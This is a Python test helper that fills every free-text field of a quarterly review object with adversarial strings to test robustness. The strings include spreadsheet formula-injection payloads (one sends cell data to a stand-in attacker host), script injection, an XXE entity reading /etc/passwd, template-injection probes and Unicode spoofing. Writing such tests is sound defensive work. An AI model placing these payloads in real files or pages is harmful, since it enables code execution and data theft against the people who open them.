"""Texts that try to be more than text, and putting them into every free text of a review."""

from dataclasses import fields, is_dataclass, replace
from typing import Any

from analytics.review.model import QuarterlyReview
from tests.packs.parts import VENDORS

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1=HYPERLINK("http://evil.example/?"&A1,"x")',
    '-2+3"\t\r\n=1+1',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "&lt;&xxe; <!ENTITY x SYSTEM 'file:///etc/passwd'> ]]> <![CDATA[",
    '#read("/etc/passwd") #include "/etc/passwd" $x^2$ *b* `raw` @ref <label> // comment',
    '#image("http://evil.example/a.png") #link("javascript:alert(1)")[x] \\u{41}',
    "".join(map(chr, range(32))) + "\x7f\x80\x9f\ufffe\uffff",
    "Long " + "name " * 58 + "end",
    "W" * 300,
    "\u05e9\u05d9\u05e8\u05d5\u05ea \u05dc\u05e7\u05d5\u05d7\u05d5\u05ea 81.1 % \u0627\u0644\u062e\u062f\u0645\u0629 \u202egnp.exe\u202c",
    "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \u4e2d\u6587 \u0e44\u0e17\u0e22",
    "lone \ud800 and \udfff surrogates",
    "zero\u200bwidth\u200d\ufeff\u2060 and soft\u00adhyphen\u2028line\u2029paragraph",
    "file:///etc/passwd https://evil.example/x?y=1 \\\\evil\\share\\x mailto:a@evil.example",
    "%PDF-1.7 /JavaScript /OpenAction /Launch (x) Tj endobj",
    "{{ 7*7 }} ${7*7} %s %n _x000D_ {0}",
    "[Red]General;@ #,##0 'quoted",
    "",
)


_FIXED = {"unit", "currency", "status", "signal", "assurance", "comparator", "kpi", "kpis", "id", "mark", "place", "band", "bands"}
_FIXED |= {"quarter", "frame", "row", "column", "page", "name", "dimension", "source_kind"}
_SWAPPED_IDS = {"vendor", "vendors"}


class _Cycle:
    """The texts one after the other, for ever."""

    def __init__(self, texts: tuple[str, ...]) -> None:
        self._texts = texts
        self._at = 0

    def next(self, _: str) -> str:
        """The next text in place of this one."""
        self._at += 1
        return self._texts[self._at % len(self._texts)]


def _hostile_vendor(name: str) -> str:
    """Vendors keep fitting together: each name has one hostile text wherever it stands."""
    return HOSTILE[3 * VENDORS.index(name)] + name if name in VENDORS else name


def each(value: Any, kind: type, change: Any) -> Any:
    """The same parts with every `kind` below changed; texts only where they are free."""
    if isinstance(value, kind) and kind is not str:
        return change(value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{field.name: _field(field.name, getattr(value, field.name), kind, change) for field in fields(value)})
    if isinstance(value, tuple):
        return tuple(each(part, kind, change) for part in value)
    return change(value) if kind is str and type(value) is str else value


def _field(name: str, value: Any, kind: type, change: Any) -> Any:
    if kind is str and name in _SWAPPED_IDS:
        return tuple(_hostile_vendor(part) for part in value) if isinstance(value, tuple) else _hostile_vendor(value)
    if kind is str and name in _FIXED:
        return value
    return each(value, kind, change)


def made_hostile(review: QuarterlyReview) -> QuarterlyReview:
    """Every text that is free to be anything is one of `HOSTILE`; ids, status words and units stay what the code knows."""
    return each(review, str, _Cycle(HOSTILE).next)
